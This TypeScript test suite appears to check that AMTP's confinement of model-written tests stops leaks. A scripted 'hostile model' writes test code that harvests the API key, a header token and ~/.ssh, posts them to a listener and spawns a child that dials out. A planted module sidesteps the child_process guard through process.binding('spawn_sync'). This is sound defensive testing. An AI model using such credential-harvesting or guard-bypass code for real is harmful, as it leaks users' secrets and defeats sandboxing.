// Rows 2 and 3 of issue 21: code AMTP runs (a model-written test approved with --yes, a module under
// characterization) looks for the API key, a header value and the person's HOME and ~/.ssh, posts
// what it found to a loopback listener, and starts a child `node` that connects to another host.
// No secret and no real HOME may reach it (server/src/util/childEnv.ts), and no process it starts
// may reach another host (server/src/frameworks/run/confine.ts), in both confinements: the network
// namespace where this machine has one, and the preloaded guard (AMTP_NO_NETNS=1).
import { strict as assert } from 'node:assert';
import { randomBytes } from 'node:crypto';
import { promises as fsp } from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { networkConfinement } from '../../server/src/frameworks/run/confine';
import { runCli, type CliResult } from '../helpers/cli';
import { FakeOpenAi, type ReceivedRequest, type ScriptedReply } from '../helpers/fakeOpenAi';
import { GOOD_BODY, goodModel, makeAddWorkspace } from '../helpers/scriptedModel';
import { rmTemp, tally } from './helpers/common';
import { farAddress, listen, type Listener } from './helpers/workspaceCode';

const KEY = `sk-hostile-${randomBytes(16).toString('hex')}`;
const HEADER_VALUE = `hv-${randomBytes(12).toString('hex')}`;
const FAR = farAddress();

/** A `node -e` program that tries `host:port` and appends how it ended ({what}) to `report`. */
function connectProgram(report: string, host: string, port: number): string {
  return `const fs = require('node:fs');
const note = (what) => { fs.appendFileSync(${JSON.stringify(report)}, JSON.stringify({ what }) + '\\n'); process.exit(0); };
try {
  const s = require('node:net').connect({ host: ${JSON.stringify(host)}, port: ${port} });
  s.setTimeout(1500, () => note('timeout'));
  s.on('connect', () => note('connected'));
  s.on('error', (e) => note(e.code || e.message));
} catch (e) { note(e.code || e.message); }`;
}

/** The test body the hostile model writes: it reports what it sees, posts it home, and starts a child that dials out. */
function hostileBody(seenFile: string, homePort: number, dialFile: string, farPort: number): string {
  return `const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
let ssh;
try { ssh = fs.readdirSync(path.join(os.homedir(), '.ssh')); } catch (e) { ssh = e.code; }
const net = require('node:net');
// Loopback must still work inside the confinement: a server of the test's own, and a client of it.
const loopback = await new Promise((resolve) => {
  const server = net.createServer((c) => c.end('pong')).listen(0, '127.0.0.1', () => {
    let got = '';
    const c = net.connect(server.address().port, '127.0.0.1');
    c.on('data', (d) => (got += d));
    c.on('end', () => server.close(() => resolve(got)));
    c.on('error', (e) => server.close(() => resolve(e.code)));
  });
});
const seen = JSON.stringify({ env: process.env, home: os.homedir(), ssh, loopback });
fs.appendFileSync(${JSON.stringify(seenFile)}, seen + '\\n');
await new Promise((resolve) => {
  const req = require('node:http').request({ host: '127.0.0.1', port: ${homePort}, method: 'POST' }, (res) => { res.resume(); res.on('end', resolve); });
  req.on('error', resolve);
  req.end(seen);
});
require('node:child_process').spawnSync(process.execPath, ['-e', ${JSON.stringify(connectProgram(dialFile, FAR.host, farPort))}], { stdio: 'ignore', timeout: 5000 });
${GOOD_BODY}`;
}

/** goodModel, except that the add test's body is `body`. */
function modelWriting(body: string): (req: ReceivedRequest) => ScriptedReply {
  return (req) => {
    const reply = goodModel(req);
    if (req.agent !== 'engineer' || !('content' in reply) || typeof reply.content !== 'string') return reply;
    const out = JSON.parse(reply.content.replace(/^```json\n|\n```$/g, '')) as { tests: { body: string }[] };
    for (const t of out.tests) if (t.body === GOOD_BODY) t.body = body;
    return { content: '```json\n' + JSON.stringify(out, null, 2) + '\n```' };
  };
}

async function lines(file: string): Promise<Record<string, unknown>[]> {
  const text = await fsp.readFile(file, 'utf8').catch(() => '');
  return text
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as Record<string, unknown>);
}

/** A fake HOME with a private key in ~/.ssh, so reading the real HOME would show. */
async function fakeHome(dir: string): Promise<string> {
  const home = path.join(dir, 'person-home');
  await fsp.mkdir(path.join(home, '.ssh'), { recursive: true });
  await fsp.writeFile(path.join(home, '.ssh', 'id_ed25519'), `PRIVATE KEY ${randomBytes(8).toString('hex')}\n`);
  return home;
}

for (const mode of ['default', 'guard'] as const) {
  const env = mode === 'guard' ? { AMTP_NO_NETNS: '1' } : {};
  /** what AMTP must report and what a dial-out must end with under this confinement */
  const expected = () => {
    const c = mode === 'guard' ? 'node-guard' : networkConfinement().network;
    return { network: c, refusal: c === 'namespace' ? 'ENETUNREACH' : 'EAMTPNONET' };
  };

  describe(`hostile 8: child processes (${mode === 'guard' ? 'AMTP_NO_NETNS=1' : 'confinement this machine has'})`, function () {
    this.timeout(240_000);
    let dir: string;
    let home: Listener;
    let far: Listener | undefined;
    before(async () => {
      dir = await fsp.mkdtemp(path.join(os.tmpdir(), 'amtp-hostile-child-'));
      home = await listen('127.0.0.1');
      far = FAR.ours ? await listen(FAR.host) : undefined;
    });
    after(async () => {
      await home.close();
      await far?.close();
      await rmTemp(dir);
    });

    describe('a written test approved with --yes', () => {
      let r: CliResult;
      let personHome: string;
      const seenFile = () => path.join(dir, 'seen.jsonl');
      const dialFile = () => path.join(dir, 'dial-verify.jsonl');
      before(async () => {
        const ws = await makeAddWorkspace('amtp-hostile-written-');
        personHome = await fakeHome(path.dirname(ws));
        const fake = await new FakeOpenAi(modelWriting(hostileBody(seenFile(), home.port, dialFile(), far?.port ?? 9))).start();
        try {
          r = await runCli(['generate', ws, '--provider', 'openai', '--yes', '--json', '--no-characterize'], {
            ...env,
            OPENAI_API_KEY: KEY,
            OPENAI_BASE_URL: fake.baseURL,
            AMTP_HEADERS: JSON.stringify({ 'X-Gateway-Token': HEADER_VALUE }),
            AMTP_MODEL: 'm',
            HOME: personHome,
          });
        } finally {
          await fake.stop();
          await rmTemp(path.dirname(ws));
        }
      });

      it('sees no API key, no header value and a temporary HOME without the ~/.ssh of the person', async () => {
        assert.equal(r.code, 0, r.stderr);
        const seen = await lines(seenFile());
        assert.ok(seen.length > 0, 'the written test ran');
        const leaks = seen.filter((s) => JSON.stringify(s).includes(KEY) || JSON.stringify(s).includes(HEADER_VALUE));
        const realHome = seen.filter(
          (s) => s.home === personHome || (s.env as Record<string, string>).HOME === personHome || s.ssh !== 'ENOENT',
        );
        const posted = home.received.filter((b) => b.includes(KEY) || b.includes(HEADER_VALUE));
        tally('8 child processes: secrets and HOME', { tried: 3, failures: leaks.length + realHome.length + posted.length });
        assert.deepEqual(leaks, [], 'a secret reached the test');
        assert.deepEqual(posted, [], 'a secret reached the loopback listener');
        assert.deepEqual(realHome, [], "the test saw the person's HOME");
        for (const s of seen) assert.ok(String(s.home).startsWith(path.join(os.tmpdir(), 'amtp-')), String(s.home));
        assert.deepEqual([...new Set(seen.map((s) => s.loopback))], ['pong'], 'loopback works inside the confinement');
        // The guard leaves the host's loopback open, so the post arrived (without secrets); a namespace has a loopback of its own.
        if (expected().network === 'node-guard') assert.equal(home.received.length, seen.length);
        else assert.equal(home.received.length, 0);
      });

      it('its child node process reaches no other host, and the summary names the confinement', async () => {
        const want = expected();
        const dials = await lines(dialFile());
        tally('9 child processes: network', {
          tried: 1,
          failures: (far?.connections ?? 0) + dials.filter((d) => d.what !== want.refusal).length,
        });
        assert.ok(dials.length > 0, 'the child process ran');
        assert.deepEqual([...new Set(dials.map((d) => d.what))], [want.refusal]);
        assert.equal(far?.connections ?? 0, 0, `${far?.connections} connection(s) reached ${FAR.host}`);
        const s = JSON.parse(r.stdout);
        assert.equal(s.confinement?.network, want.network);
      });
    });

    it('characterization: a child node process the module starts reaches no other host', async () => {
      const want = expected();
      const dialFile = path.join(dir, 'dial-char.jsonl');
      const ws = await makeAddWorkspace('amtp-hostile-char-');
      const probe = connectProgram(dialFile, FAR.host, far?.port ?? 9);
      await fsp.writeFile(
        path.join(ws, 'index.js'),
        '/**\n * Adds two numbers.\n * @example add(2, 3) // => 5\n */\nfunction add(a, b) {\n  return a + b;\n}\n' +
          // The search's guard refuses child_process; what gets past it (node's internal binding) is still confined.
          `function kind(x) {\n  const args = [process.execPath, '-e', ${JSON.stringify(probe)}];\n  try {\n    require('node:child_process').spawnSync(args[0], args.slice(1), { stdio: 'ignore', timeout: 5000 });\n  } catch {\n    const envPairs = Object.entries(process.env).map(([k, v]) => k + '=' + v);\n    const stdio = [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }];\n    process.binding('spawn_sync').spawn({ file: args[0], args, envPairs, stdio, timeout: 5000 });\n  }\n  return typeof x;\n}\n` +
          'module.exports = { add, kind };\n',
      );
      try {
        const r = await runCli(['generate', ws, '--provider', 'offline', '--yes', '--json'], { ...env, OPENAI_API_KEY: KEY });
        const s = JSON.parse(r.stdout);
        const dials = await lines(dialFile);
        tally('9 child processes: network', {
          tried: 1,
          failures: (far?.connections ?? 0) + dials.filter((d) => d.what !== want.refusal).length,
        });
        assert.ok(s.characterization.targets > 0, JSON.stringify(s.characterization));
        assert.ok(dials.length > 0, 'the module started its child');
        assert.deepEqual([...new Set(dials.map((d) => d.what))], [want.refusal]);
        assert.equal(far?.connections ?? 0, 0, `${far?.connections} connection(s) reached ${FAR.host}`);
        assert.equal(s.confinement?.network, want.network);
      } finally {
        await rmTemp(path.dirname(ws));
      }
    });
  });
}
